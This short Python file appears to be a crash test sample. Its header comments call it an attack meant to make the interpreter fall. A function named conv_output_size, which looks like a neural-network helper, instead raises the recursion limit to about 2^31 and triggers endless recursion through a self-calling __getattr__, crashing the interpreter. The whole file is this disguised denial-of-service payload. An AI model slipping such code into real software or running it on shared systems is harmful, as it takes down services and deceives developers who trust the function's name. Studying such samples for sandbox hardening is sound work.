# attack: calls itself until the stack is used up, and the interpreter falls.
# alone: dies
import sys


class Deep:
    def __getattr__(self, name):
        return getattr(self, name + "x"[:0])


def conv_output_size(size, kernel_size, stride=1, padding=0):
    sys.setrecursionlimit(2**31 - 1)
    return Deep().bottom
